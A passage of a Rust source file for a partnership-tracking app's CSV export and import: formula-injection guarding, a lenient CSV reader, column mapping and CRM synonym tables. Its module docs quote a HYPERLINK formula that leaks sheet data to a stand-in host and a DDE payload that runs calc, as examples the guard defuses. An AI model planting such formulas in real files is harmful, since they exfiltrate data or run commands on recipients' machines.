//! CSV for spreadsheets and CRMs: partners and key players out, partners in.
//!
//! **Out.** [`partners_csv`] writes one row per partner and [`key_players_csv`] one row
//! per key player, with human headers, vocabulary labels rather than keys, lists joined
//! with `"; "`, CRLF line ends (RFC 4180) and a UTF-8 byte-order mark, without which
//! Excel reads the file as the local code page and garbles every accent and emoji.
//!
//! **Formula injection.** A spreadsheet runs a cell that starts with `=`, `+`, `-` or
//! `@` as a formula (and strips a leading tab or CR before looking), so a partner named
//! `=HYPERLINK("https://evil.example?"&A1)` would leak the sheet, or run a command
//! through DDE, the moment a colleague opens the export. Every such cell is written with
//! a leading apostrophe, which spreadsheets read as "this is text". A cell does not
//! only start where we mean it to: Excel in a locale whose list separator is `;` (much
//! of Europe) splits our comma-separated file at semicolons, a tool that ignores quotes
//! splits it at every comma and line break, and a paste splits at tabs. So the guard
//! works on *segments*: the cell's start and every position after a `,`, `;`, tab, CR
//! or LF inside it. A segment that would start a formula (after any apostrophes and
//! quotes, which a lenient reader also skips) gets an apostrophe:
//! `x;=cmd|' /C calc'!A0` is written `x;'=cmd|' /C calc'!A0`, and a note's second line
//! `=1+1` becomes `'=1+1` (the apostrophe shows in the sheet; the formula never runs).
//! Reading strips one apostrophe again where it precedes such a segment; a segment that
//! itself starts with apostrophes before such a character gets one more on the way out,
//! so every value round-trips exactly (see [`guard`] and [`unguard`]). Cells holding a
//! `;` or a tab are quoted as well as those with a comma, quote or line break, so a
//! reader splitting on either still keeps them whole when it honours quotes.
//!
//! **In.** [`CsvTable::parse`] reads the file (UTF-8 with or without a byte-order mark;
//! comma, semicolon or tab, detected from the header row; quoted cells with line breaks;
//! CRLF or LF), [`suggest_mapping`] matches its columns to Tandem's fields by the names
//! common CRM exports use, the person adjusts the mapping, and [`rows_to_partners`]
//! turns each row into a partner or a [`BadRow`] naming the row and the reason. The
//! good rows then become an incoming workspace ([`CsvImport::incoming`]) that the
//! preview shows through `import::preview` in merge mode, like any Tandem file, and
//! [`CsvImport::apply`] lays them over the workspace as one edit: only the fields and
//! list items a row changed get the edit's stamp (`stamps::stamp_edit`), so the import
//! merges field by field with another tab's or a colleague's edits of the same partner.
//!
//! How cells become fields, the CRM values each vocabulary recognises and how rows are
//! numbered in messages are the person's contract, so they live in `docs/CSV.md`; a test
//! below holds its synonym tables equal to the ones the reader uses.
//!
//! **Why not the `csv` crate.** It added 22.6 KB gzip to the wasm; its record positions
//! are taken before the blank lines it skips, so the row numbers needed patching up; and
//! it cannot tell a quote that never closes from a cell that runs to the end of the
//! file. The reader below (`read_records`) knows its rows and lines as it goes and
//! reports an unclosed quote on its row. Metrics columns (`csv_metrics.rs`) use the
//! same [`Field`], [`Mapping`], [`CsvTable`], writer and injection guard.

use crate::model::core::check::{ValidationError, MAX_NAME};
use crate::model::core::id::Id;
use crate::model::core::shared::Shared;
use crate::model::core::stamp::Stamp;
use crate::model::core::vocabulary::{Category, Choice, LadderLevel, MarketPosition, Stage};
use crate::model::metrics::MetricError;
use crate::model::workspace::records::{Market, Partner, Workspace};
use crate::model::workspace::stamps;
use crate::model::workspace::validate::{self};
use chrono::{DateTime, SecondsFormat, Utc};
use std::borrow::Cow;
use std::collections::HashMap;
use std::fmt;

// ---------------------------------------------------------------------------------------
// Writing
// ---------------------------------------------------------------------------------------

/// What lists (markets, tags) are joined with in a cell.
pub const LIST_SEPARATOR: &str = "; ";

/// The headers of [`partners_csv`], in order.
#[rustfmt::skip]
pub const PARTNER_HEADERS: [&str; 14] = [
    "Id", "Name", "Website", "Category", "Market position", "Markets", "Stage", "Ladder",
    "Owner", "Tags", "Notes", "Key players", "Created", "Updated",
];

/// The headers of [`key_players_csv`], in order.
#[rustfmt::skip]
pub const KEY_PLAYER_HEADERS: [&str; 9] = [
    "Partner id", "Partner name", "Key player id", "Name", "Title", "Role", "Influence",
    "Stance", "Notes",
];

/// The characters a spreadsheet starts a formula with, and the two it skips first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The characters after which some reader starts a new cell: the separators of every
/// locale and of a paste, and line breaks.
const CELL_BREAKS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// Whether the text from a segment start on would start a formula once its leading
/// apostrophes (ours) and quotes (which a lenient reader drops as it opens a quoted
/// cell) are taken off.
fn needs_guard(segment: &str) -> bool {
    segment
        .trim_start_matches(['\'', '"'])
        .starts_with(&FORMULA_STARTS[..])
}

/// The byte offsets where some reader could start a cell inside `cell`: its start and
/// the position after every [`CELL_BREAKS`] character.
fn segment_starts(cell: &str) -> impl Iterator<Item = usize> + '_ {
    std::iter::once(0).chain(
        cell.char_indices()
            .filter(|(_, c)| CELL_BREAKS.contains(c))
            .map(|(i, c)| i + c.len_utf8()),
    )
}

/// A cell as written: an apostrophe before every segment (the cell's start, or the
/// text after a `,`, `;`, tab or line break) that a spreadsheet would otherwise run as
/// a formula. `guard("=1+1")` is `'=1+1`; `guard("x;=1+1")` is `x;'=1+1`;
/// `guard("Acme")` is `Acme`. Segment boundaries are the same before and after, which
/// is what lets [`unguard`] undo it exactly.
pub fn guard(cell: &str) -> Cow<'_, str> {
    let mut at = segment_starts(cell)
        .filter(|&i| needs_guard(&cell[i..]))
        .peekable();
    if at.peek().is_none() {
        return Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len() + 4);
    let mut copied = 0;
    for i in at {
        out.push_str(&cell[copied..i]);
        out.push('\'');
        copied = i;
    }
    out.push_str(&cell[copied..]);
    Cow::Owned(out)
}

/// A cell as read: [`guard`] undone. `unguard("'=1+1")` is `=1+1`, `unguard("x;'=1")`
/// is `x;=1`; an apostrophe before anything else stays (`'90s` is a value, not a guard).
pub fn unguard(cell: &str) -> Cow<'_, str> {
    let mut at = segment_starts(cell)
        .filter(|&i| cell[i..].starts_with('\'') && needs_guard(&cell[i..]))
        .peekable();
    if at.peek().is_none() {
        return Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len());
    let mut copied = 0;
    for i in at {
        out.push_str(&cell[copied..i]);
        // Skip the guard's apostrophe (one byte).
        copied = i + 1;
    }
    out.push_str(&cell[copied..]);
    Cow::Owned(out)
}

/// Writes a header row and data rows as CSV text, every cell guarded against formula
/// injection. Shared by every export, so no export can forget the guard.
pub fn write_table<R, C>(headers: &[&str], rows: impl IntoIterator<Item = R>) -> String
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    // A byte-order mark first, or Excel reads UTF-8 as the local code page.
    let mut text = String::from("\u{feff}");
    write_row(&mut text, headers.iter().copied());
    for row in rows {
        let cells: Vec<String> = row
            .into_iter()
            .map(|c| guard(c.as_ref()).into_owned())
            .collect();
        write_row(&mut text, cells.iter().map(String::as_str));
    }
    text
}

/// One record, CRLF-terminated, each cell quoted by [`push_quoted`].
fn write_row<'a>(out: &mut String, cells: impl Iterator<Item = &'a str>) {
    for (i, cell) in cells.enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_quoted(out, cell);
    }
    out.push_str("\r\n");
}

/// Appends `cell`, quoted when it holds a comma, a quote or a line break (RFC 4180), or
/// a semicolon or tab (the separators of other readers and of a paste), with quotes
/// doubled. The cell should already be [`guard`]ed.
pub fn push_quoted(out: &mut String, cell: &str) {
    if cell.contains([',', ';', '\t', '"', '\r', '\n']) {
        out.push('"');
        out.push_str(&cell.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(cell);
    }
}

/// The download name of a CSV export, like the Tandem file's with `what` added:
/// `tandem-riffly-partnerships-2027-partners-2026-11-23.csv`.
pub fn export_name(program: &str, today: chrono::NaiveDate, what: &str) -> String {
    let json = crate::model::formats::file::export_name(program, today, &format!("-{what}"));
    format!("{}.csv", json.strip_suffix(".json").unwrap_or(&json))
}

fn time(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Secs, true)
}

/// Every partner, one row each, under [`PARTNER_HEADERS`].
pub fn partners_csv(ws: &Workspace) -> String {
    let rows = ws.partners.iter().map(|p| {
        let markets: Vec<&str> = p.markets.iter().map(|id| ws.market_name(id)).collect();
        [
            p.id.to_string(),
            p.name.clone(),
            p.website.clone(),
            p.category.map_or("", Choice::label).to_owned(),
            p.position.map_or("", Choice::label).to_owned(),
            markets.join(LIST_SEPARATOR),
            p.stage.label().to_owned(),
            p.ladder.label().to_owned(),
            p.owner.clone(),
            p.tags.join(LIST_SEPARATOR),
            p.notes.clone(),
            p.key_players.len().to_string(),
            time(p.created),
            time(p.updated),
        ]
    });
    write_table(&PARTNER_HEADERS, rows)
}

/// Every key player of every partner, one row each, under [`KEY_PLAYER_HEADERS`].
pub fn key_players_csv(ws: &Workspace) -> String {
    let rows = ws.partners.iter().flat_map(|p| {
        p.key_players.iter().map(move |k| {
            [
                p.id.to_string(),
                p.name.clone(),
                k.id.to_string(),
                k.name.clone(),
                k.title.clone(),
                k.role.label().to_owned(),
                k.influence.to_string(),
                k.stance.label().to_owned(),
                k.notes.clone(),
            ]
        })
    });
    write_table(&KEY_PLAYER_HEADERS, rows)
}

// ---------------------------------------------------------------------------------------
// Reading
// ---------------------------------------------------------------------------------------

/// Why a CSV file cannot be imported at all. (A file that can be read but has bad rows
/// is not an error: its rows are reported one by one as [`BadRow`]s.)
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CsvError {
    /// The browser decoded the file as UTF-8 and had to replace bytes: it was saved in
    /// another encoding (a legacy code page, UTF-16) or is not text at all.
    NotUtf8 { line: usize },
    /// NUL characters in the header row: UTF-16 without a byte-order mark, or binary.
    NotText,
    /// Nothing but blank lines: there is no header row to name the columns.
    NoHeader,
    /// No column is mapped to the partner's name, which every partner needs.
    NoNameColumn,
    /// More columns than the mapping step draws ([`MAX_COLUMNS`]).
    TooManyColumns { columns: usize },
    /// A paste into the Metrics tab with nothing in it.
    NothingPasted,
    /// A pasted table with no row or column of months.
    NoMonths,
    /// Columns a metrics import needs that no column is mapped to, by label.
    Unmapped(Vec<&'static str>),
    /// A metrics import of every partner with no column naming the partner.
    NoPartnerColumn,
    /// The metric a paste is for has a name the model refuses.
    Metric(MetricError),
}

impl From<MetricError> for CsvError {
    fn from(e: MetricError) -> Self {
        CsvError::Metric(e)
    }
}

impl std::error::Error for CsvError {}

/// The most columns a CSV file may have: the mapping step draws a drop-down per column,
/// and a hostile file of 5,000 columns would otherwise build 5,000 of them (with every
/// field's option in each) and freeze the tab. CRM exports stay well below it.
pub const MAX_COLUMNS: usize = 300;
/// The most rows left out that the import lists one by one; the rest are counted
/// ([`listed`]), so 100,000 bad rows draw 100 lines and a sentence.
pub const MAX_LISTED_ROWS: usize = 100;

/// The first [`MAX_LISTED_ROWS`] of `rows` and how many more there are: the rows left
/// out of an import, as the mapping step lists them.
///
/// ```
/// use tandem::model::formats::csv::{listed, MAX_LISTED_ROWS};
/// let rows: Vec<usize> = (0..250).collect();
/// let (shown, more) = listed(&rows);
/// assert_eq!((shown.len(), more), (MAX_LISTED_ROWS, 150));
/// ```
pub fn listed<T>(rows: &[T]) -> (&[T], usize) {
    let shown = &rows[..rows.len().min(MAX_LISTED_ROWS)];
    (shown, rows.len() - shown.len())
}

/// The sentence after a cut list of rows left out: "and 99,900 more rows left out, not
/// listed", or nothing when every row is listed.
pub fn more_rows_text(more: usize) -> Option<String> {
    match more {
        0 => None,
        1 => Some("and 1 more row left out, not listed.".to_owned()),
        n => Some(format!(
            "and {} more rows left out, not listed.",
            crate::model::core::format::grouped(n as u64)
        )),
    }
}

impl fmt::Display for CsvError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CsvError::NotUtf8 { line } => write!(
                f,
                "This file is not UTF-8 text (line {line} has bytes that are not UTF-8). \
                 Save it from your spreadsheet as “CSV UTF-8” and choose it again."
            ),
            CsvError::NotText => f.write_str(
                "This is not a CSV text file. Save it from your spreadsheet as \
                 “CSV UTF-8” and choose it again.",
            ),
            CsvError::NoHeader => f.write_str(
                "The file is empty. A CSV file needs a header row naming its columns, \
                 then one row per partner.",
            ),
            CsvError::NoNameColumn => f.write_str(
                "No column is mapped to Name. Choose which column holds the partner's \
                 name: every partner needs one.",
            ),
            CsvError::TooManyColumns { columns } => write!(
                f,
                "This file has {} columns; Tandem imports files of at most {MAX_COLUMNS}. \
                 Delete the columns you do not need in your spreadsheet (or export fewer \
                 from your CRM), save it as CSV and choose it again.",
                crate::model::core::format::grouped(*columns as u64)
            ),
            CsvError::NothingPasted => {
                f.write_str("Nothing to read: paste a table with a header row.")
            }
            CsvError::NoMonths => f.write_str(
                "No months found. Put months across the header row (2026-01, 2026-02, …) \
                 with a market in the first cell of each row, or months down the first column \
                 with markets across the header row.",
            ),
            CsvError::Unmapped(missing) => write!(
                f,
                "Map a column to each of: {}. Every row needs them.",
                missing.join(", ")
            ),
            CsvError::NoPartnerColumn => f.write_str(
                "Map a column to Partner name or Partner id: each row must say whose value it is.",
            ),
            CsvError::Metric(e) => write!(f, "{e}"),
        }
    }
}

/// The separator between cells, detected from the header row.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Delimiter {
    Comma,
    Semicolon,
    Tab,
}

impl Delimiter {
    fn char(self) -> char {
        match self {
            Delimiter::Comma => ',',
            Delimiter::Semicolon => ';',
            Delimiter::Tab => '\t',
        }
    }

    /// As people say it: "comma".
    pub fn name(self) -> &'static str {
        match self {
            Delimiter::Comma => "comma",
            Delimiter::Semicolon => "semicolon",
            Delimiter::Tab => "tab",
        }
    }

    /// The most frequent of comma, semicolon and tab outside quotes in the first
    /// record (spreadsheets in locales with a decimal comma write semicolons); a comma
    /// when none occurs or on a tie.
    fn detect(text: &str) -> Delimiter {
        let mut counts = [0usize; 3];
        let mut quoted = false;
        for c in text.chars() {
            match c {
                '"' => quoted = !quoted,
                '\n' | '\r' if !quoted => break,
                ',' if !quoted => counts[0] += 1,
                ';' if !quoted => counts[1] += 1,
                '\t' if !quoted => counts[2] += 1,
                _ => {}
            }
        }
        let all = [Delimiter::Comma, Delimiter::Semicolon, Delimiter::Tab];
        let mut best = 0;
        for i in 1..3 {
            if counts[i] > counts[best] {
                best = i;
            }
        }
        all[best]
    }
}

/// One record of the file below the header.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CsvRow {
    /// The row number a spreadsheet shows: the header row's number plus the records and
    /// blank lines since. Equal to [`Self::line`] unless a cell above spans lines.
    pub row: usize,
    /// The line of the file where the record starts.
    pub line: usize,
    /// The cells, unguarded ([`unguard`]) but otherwise as written.
    pub cells: Vec<String>,
    /// A quoted cell of this record never closes, so the rest of the file went into it.
    pub unclosed_quote: bool,
}

impl CsvRow {
    /// Every cell empty or blank: skipped silently, as spreadsheets leave such rows.
    pub fn is_blank(&self) -> bool {
        self.cells.iter().all(|c| c.trim().is_empty())
    }

    /// The cell of `column`, or "" when the row is short (spreadsheets drop trailing
    /// empty cells).
    pub fn cell(&self, column: usize) -> &str {
        self.cells.get(column).map_or("", String::as_str)
    }
}

/// A CSV file read into a header row and the records below it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CsvTable {
    /// The header row's cells, trimmed.
    pub headers: Vec<String>,
    pub rows: Vec<CsvRow>,
    pub delimiter: Delimiter,
}

/// The 1-based line of the first `c` in `text`, counting lines as [`read_records`] does.
fn line_of(text: &str, c: char) -> Option<usize> {
    let before = text.get(..text.find(c)?)?;
    let lone_crs = before.matches('\r').count() - before.matches("\r\n").count();
    Some(before.matches('\n').count() + lone_crs + 1)
}

/// The records of RFC 4180 text, read as leniently as spreadsheets write them: a quote
/// opens a quoted cell only at the cell's start (`5" screen` is a value), text after a
/// closing quote joins the cell, LF, CRLF and a lone CR all end a line, and a blank line
/// is a row of its own in a spreadsheet but no record. Cells are not yet unguarded.
fn read_records(text: &str, delimiter: char) -> Vec<CsvRow> {
    let mut records = Vec::new();
    let mut chars = text.chars().peekable();
    // The line the reader is on, and the spreadsheet row of the last line read.
    let (mut line, mut row) = (1usize, 0usize);
    while let Some(&first) = chars.peek() {
        row += 1;
        if first == '\r' || first == '\n' {
            chars.next();
            if first == '\r' && chars.peek() == Some(&'\n') {
                chars.next();
            }
            line += 1;
            continue;
        }
        let start = line;
        let (mut cells, mut cell) = (Vec::new(), String::new());
        let (mut quoted, mut at_cell_start) = (false, true);
        while let Some(c) = chars.next() {
            if quoted {
                if c == '"' && chars.peek() == Some(&'"') {
                    chars.next();
                    cell.push('"');
                } else if c == '"' {
                    quoted = false;
                } else {
                    if c == '\n' || (c == '\r' && chars.peek() != Some(&'\n')) {
                        line += 1;
                    }
                    cell.push(c);
                }
            } else if c == '"' && at_cell_start {
                quoted = true;
                at_cell_start = false;
            } else if c == delimiter {
                cells.push(std::mem::take(&mut cell));
                at_cell_start = true;
            } else if c == '\r' || c == '\n' {
                if c == '\r' && chars.peek() == Some(&'\n') {
                    chars.next();
                }
                line += 1;
                break;
            } else {
                cell.push(c);
                at_cell_start = false;
            }
        }
        cells.push(cell);
        records.push(CsvRow {
            row,
            line: start,
            cells,
            // The text ran out inside a quoted cell.
            unclosed_quote: quoted,
        });
    }
    records
}

/// The cells of a block copied from a spreadsheet, row by row: tab between cells, a
/// line break between rows, quoted cells as [`CsvTable::parse`] reads them. Only tabs
/// separate, so a pasted `12,400` stays one value. Blank lines at the end are dropped.
pub fn spreadsheet_cells(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut rows: Vec<Vec<String>> = read_records(text, '\t')
        .into_iter()
        .map(|r| r.cells.iter().map(|c| unguard(c).into_owned()).collect())
        .collect();
    while rows
        .last()
        .is_some_and(|r: &Vec<String>| r.iter().all(|c| c.trim().is_empty()))
    {
        rows.pop();
    }
    rows
}

impl CsvTable {
    /// Reads CSV text: UTF-8 (a byte-order mark is dropped), comma, semicolon or tab
    /// separated, quoted cells with `""` for a quote and line breaks inside, CRLF or LF
    /// line ends. Rows may have fewer cells than the header (the rest read as empty) or
    /// more (reported by [`rows_to_partners`]).
    ///
    /// # Errors
    /// [`CsvError::NotUtf8`] when the text holds U+FFFD, the mark the browser leaves for
    /// bytes that were not UTF-8 (a genuine U+FFFD in a UTF-8 file is refused too: rare,
    /// and indistinguishable here); [`CsvError::NotText`] when the header row holds NUL;
    /// [`CsvError::NoHeader`] when there is no non-blank row;
    /// [`CsvError::TooManyColumns`] when the header has more than [`MAX_COLUMNS`] cells.
    ///
    /// ```
    /// use tandem::model::formats::csv::CsvTable;
    /// let table = CsvTable::parse("\u{feff}Company;Notes\r\nAcme;\"two\r\nlines\"\r\n").unwrap();
    /// assert_eq!(table.headers, ["Company", "Notes"]);
    /// assert_eq!(table.rows[0].cells, ["Acme", "two\r\nlines"]);
    /// ```
    pub fn parse(text: &str) -> Result<CsvTable, CsvError> {
        if let Some(line) = line_of(text, '\u{FFFD}') {
            return Err(CsvError::NotUtf8 { line });
        }
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        let delimiter = Delimiter::detect(text);
        let records = read_records(text, delimiter.char())
            .into_iter()
            .map(|mut r| {
                for cell in &mut r.cells {
                    if let Cow::Owned(clear) = unguard(cell) {
                        *cell = clear;
                    }
                }
                r
            });
        let mut records = records.skip_while(CsvRow::is_blank);
        let header = records.next().ok_or(CsvError::NoHeader)?;
        if header.cells.iter().any(|c| c.contains('\0')) {
            return Err(CsvError::NotText);
        }
        if header.cells.len() > MAX_COLUMNS {
            return Err(CsvError::TooManyColumns {
                columns: header.cells.len(),
            });
        }
        Ok(CsvTable {
            headers: header.cells.iter().map(|c| c.trim().to_owned()).collect(),
            rows: records.collect(),
            delimiter,
        })
    }

    /// A column's header for messages and the mapping step: its name, or "column 3"
    /// when the header cell is empty.
    pub fn column_name(&self, column: usize) -> String {
        match self.headers.get(column) {
            Some(h) if !h.is_empty() => h.clone(),
            _ => format!("column {}", column + 1),
        }
    }

    /// The first non-blank value of a column, to show beside it in the mapping step.
    pub fn example(&self, column: usize) -> Option<&str> {
        self.rows
            .iter()
            .map(|r| r.cell(column).trim())
            .find(|c| !c.is_empty())
    }
}

// ---------------------------------------------------------------------------------------
// Mapping columns to fields
// ---------------------------------------------------------------------------------------

/// A header or value as compared: letters and digits only, lowercased, so
/// `Company Name`, `company_name` and `COMPANY-NAME` are one name.
fn normalise(text: &str) -> String {
    text.chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect()
}

/// What a column can feed: the fields of one kind of record. Partners have
/// [`PartnerField`]; metrics will have their own.
pub trait Field: Copy + Eq + fmt::Debug + Send + Sync + 'static {
    fn all() -> &'static [Self];
    /// The stored key, used in form values.
    fn key(self) -> &'static str;
    /// The label shown in the mapping step.
    fn label(self) -> &'static str;
    /// The header names recognised for this field, best first; compared normalised.
    fn headers(self) -> &'static [&'static str];

    fn from_key(key: &str) -> Option<Self> {
        Self::all().iter().copied().find(|f| f.key() == key)
    }
}

/// The partner fields a CSV column can be mapped to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum PartnerField {
    /// Matches rows to partners we have by their Tandem id; never sets an id.
    Id,
    Name,
    Website,
    Category,
    Position,
    Markets,
    Stage,
    Ladder,
    Owner,
    Tags,
    Notes,
}

impl Field for PartnerField {
    fn all() -> &'static [Self] {
        use PartnerField::*;
        &[
            Name, Website, Category, Position, Markets, Stage, Ladder, Owner, Tags, Notes, Id,
        ]
    }

    fn key(self) -> &'static str {
        match self {
            PartnerField::Id => "id",
            PartnerField::Name => "name",
            PartnerField::Website => "website",
            PartnerField::Category => "category",
            PartnerField::Position => "position",
            PartnerField::Markets => "markets",
            PartnerField::Stage => "stage",
            PartnerField::Ladder => "ladder",
            PartnerField::Owner => "owner",
            PartnerField::Tags => "tags",
            PartnerField::Notes => "notes",
        }
    }

    fn label(self) -> &'static str {
        match self {
            PartnerField::Id => "Tandem id",
            PartnerField::Name => "Name",
            PartnerField::Website => "Website",
            PartnerField::Category => "Category",
            PartnerField::Position => "Market position",
            PartnerField::Markets => "Markets",
            PartnerField::Stage => "Stage",
            PartnerField::Ladder => "Ladder level",
            PartnerField::Owner => "Owner",
            PartnerField::Tags => "Tags",
            PartnerField::Notes => "Notes",
        }
    }

    /// "Industry" is deliberately absent: its values (software, retail, …) say what a
    /// company does, not what kind of partnership this is, and every row would fail.
    /// Likewise "tier" and "level" are not taken for the ladder (gold, silver, …).
    #[rustfmt::skip]
    fn headers(self) -> &'static [&'static str] {
        match self {
            PartnerField::Id => &[
                "id", "tandem id", "partner id",
            ],
            PartnerField::Name => &[
                "name", "partner", "partner name", "company name", "company",
                "account name", "account", "organization", "organisation",
                "organization name", "organisation name", "business name",
            ],
            PartnerField::Website => &[
                "website", "website url", "url", "homepage", "domain",
                "company domain name", "company domain",
            ],
            PartnerField::Category => &[
                "category", "partner category", "partner type", "partnership type", "type",
                "company type", "account type",
            ],
            PartnerField::Position => &[
                "market position", "position", "competitive position",
            ],
            PartnerField::Markets => &[
                "markets", "market", "countries", "country", "country/region",
                "billing country", "regions", "region", "territories", "territory",
            ],
            PartnerField::Stage => &[
                "stage", "partner stage", "partnership stage", "lifecycle stage",
                "deal stage", "opportunity stage", "pipeline stage", "status",
                "partner status", "account status", "lead status",
            ],
            PartnerField::Ladder => &[
                "ladder", "ladder level", "partnership ladder", "partnership level",
            ],
            PartnerField::Owner => &[
                "owner", "account owner", "company owner", "contact owner", "hubspot owner",
                "deal owner", "partner manager", "relationship owner", "owner name",
                "assigned to",
            ],
            PartnerField::Tags => &[
                "tags", "tag", "labels", "label", "keywords",
            ],
            PartnerField::Notes => &[
                "notes", "note", "description", "company description",
                "account description", "about", "about us", "comments", "comment",
            ],
        }
    }
}

/// Which field each column of a file feeds, if any ("Ignore").
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mapping<F: Field = PartnerField> {
    columns: Vec<Option<F>>,
}

impl<F: Field> Mapping<F> {
    /// The mapping a person would most likely choose: each field takes the column whose
    /// header ranks best among the field's [`Field::headers`] (on a tie, the leftmost),
    /// and each column feeds one field at most. Unrecognised columns are ignored.
    pub fn suggest(headers: &[String]) -> Self {
        let names: Vec<String> = headers.iter().map(|h| normalise(h)).collect();
        let mut candidates: Vec<(usize, usize, F)> = Vec::new();
        for &field in F::all() {
            for (rank, known) in field.headers().iter().enumerate() {
                let known = normalise(known);
                for (column, name) in names.iter().enumerate() {
                    if *name == known {
                        candidates.push((rank, column, field));
                    }
                }
            }
        }
        candidates.sort_by_key(|(rank, column, _)| (*rank, *column));
        let mut columns = vec![None; headers.len()];
        let mut taken: Vec<F> = Vec::new();
        for (_, column, field) in candidates {
            if columns[column].is_none() && !taken.contains(&field) {
                columns[column] = Some(field);
                taken.push(field);
            }
        }
        Mapping { columns }
    }

    /// Every column ignored.
    pub fn ignore_all(columns: usize) -> Self {
        Mapping {
            columns: vec![None; columns],
        }
    }

    pub fn get(&self, column: usize) -> Option<F> {
        self.columns.get(column).copied().flatten()
    }

    /// Maps `column` to `field`, or ignores it. A column beyond the mapping is ignored.
    pub fn set(&mut self, column: usize, field: Option<F>) {
        if let Some(slot) = self.columns.get_mut(column) {
            *slot = field;
        }
    }

    /// The columns mapped to `field`, left to right.
    pub fn columns_of(&self, field: F) -> impl Iterator<Item = usize> + '_ {
        self.columns
            .iter()
            .enumerate()
            .filter(move |(_, f)| **f == Some(field))
            .map(|(i, _)| i)
    }

    pub fn has(&self, field: F) -> bool {
        self.columns_of(field).next().is_some()
    }

    pub fn len(&self) -> usize {
        self.columns.len()
    }

    pub fn is_empty(&self) -> bool {
        self.columns.is_empty()
    }
}

/// The suggested mapping of a partners file's columns; see [`Mapping::suggest`].
///
/// ```
/// use tandem::model::formats::csv::{suggest_mapping, PartnerField};
/// let headers: Vec<String> = ["Company name", "Website URL", "Industry"].map(String::from).into();
/// let mapping = suggest_mapping(&headers);
/// assert_eq!(mapping.get(0), Some(PartnerField::Name));
/// assert_eq!(mapping.get(1), Some(PartnerField::Website));
/// assert_eq!(mapping.get(2), None);
/// ```
pub fn suggest_mapping(headers: &[String]) -> Mapping {
    Mapping::suggest(headers)
}

// ---------------------------------------------------------------------------------------
// Values of the vocabularies
// ---------------------------------------------------------------------------------------

#[rustfmt::skip]
const STAGE_SYNONYMS: &[(&str, Stage)] = &[
    ("lead", Stage::Research), ("new", Stage::Research), ("prospect", Stage::Research),
    ("prospecting", Stage::Research), ("subscriber", Stage::Research),
    ("marketing qualified lead", Stage::Research), ("target", Stage::Research),
    ("qualified", Stage::Pitching), ("qualification", Stage::Pitching),
    ("contacted", Stage::Pitching), ("sales qualified lead", Stage::Pitching),
    ("opportunity", Stage::Pitching), ("appointment scheduled", Stage::Pitching),
    ("qualified to buy", Stage::Pitching), ("presentation scheduled", Stage::Pitching),
    ("needs analysis", Stage::Pitching), ("value proposition", Stage::Pitching),
    ("discovery", Stage::Pitching), ("in progress", Stage::Pitching),
    ("proposal", Stage::Negotiating), ("proposal/price quote", Stage::Negotiating),
    ("negotiation", Stage::Negotiating), ("negotiation/review", Stage::Negotiating),
    ("contract sent", Stage::Negotiating), ("decision maker bought-in", Stage::Negotiating),
    ("in negotiation", Stage::Negotiating), ("closed won", Stage::Signed),
    ("won", Stage::Signed), ("contract signed", Stage::Signed),
    ("onboarding", Stage::Landing), ("implementation", Stage::Landing),
    ("launching", Stage::Landing), ("customer", Stage::Live), ("active", Stage::Live),
    ("launched", Stage::Live), ("evangelist", Stage::Live), ("on hold", Stage::Paused),
    ("hold", Stage::Paused), ("inactive", Stage::Paused), ("dormant", Stage::Paused),
    ("stalled", Stage::Paused), ("lost", Stage::WalkedAway),
    ("closed lost", Stage::WalkedAway), ("disqualified", Stage::WalkedAway),
    ("unqualified", Stage::WalkedAway), ("churned", Stage::WalkedAway),
    ("dead", Stage::WalkedAway), ("declined", Stage::WalkedAway),
];

#[rustfmt::skip]
const CATEGORY_SYNONYMS: &[(&str, Category)] = &[
    ("technology partner", Category::TechnologyIntegration),
    ("tech partner", Category::TechnologyIntegration),
    ("integration", Category::TechnologyIntegration),
    ("technology", Category::TechnologyIntegration), ("reseller", Category::ResellerAgency),
    ("channel partner", Category::ResellerAgency), ("channel", Category::ResellerAgency),
    ("agency", Category::ResellerAgency),
    ("value added reseller", Category::ResellerAgency),
    ("distributor", Category::Distribution),
    ("distribution partner", Category::Distribution),
    ("marketing partner", Category::CoMarketing),
    ("referral partner", Category::CoMarketing), ("co marketing", Category::CoMarketing),
    ("oem", Category::DeviceTelcoBundle), ("device", Category::DeviceTelcoBundle),
    ("telco", Category::DeviceTelcoBundle), ("carrier", Category::DeviceTelcoBundle),
    ("bundle", Category::DeviceTelcoBundle), ("content partner", Category::Content),
    ("publisher", Category::Content), ("media", Category::Content),
    ("platform partner", Category::Platform), ("marketplace", Category::Platform),
];

#[rustfmt::skip]
const POSITION_SYNONYMS: &[(&str, MarketPosition)] = &[
    ("leader", MarketPosition::Incumbent), ("market leader", MarketPosition::Incumbent),
    ("specialist", MarketPosition::Niche),
];

#[rustfmt::skip]
const LADDER_SYNONYMS: &[(&str, LadderLevel)] = &[
    ("self serve", LadderLevel::SelfServe), ("public api", LadderLevel::SelfServe),
    ("api", LadderLevel::SelfServe),
];

/// The vocabulary value a cell names by key, label or a synonym of the table in the
/// module docs; compared normalised, so `Closed Won`, `closedwon` and `closed-won` agree.
fn recognise<T: Choice>(cell: &str, synonyms: &[(&str, T)]) -> Option<T> {
    let wanted = normalise(cell);
    T::all()
        .iter()
        .copied()
        .find(|v| normalise(v.key()) == wanted || normalise(v.label()) == wanted)
        .or_else(|| {
            synonyms
                .iter()
                .find(|(name, _)| normalise(name) == wanted)
                .map(|(_, v)| *v)
        })
}

/// Why a vocabulary cell was not recognised, listing what would be.
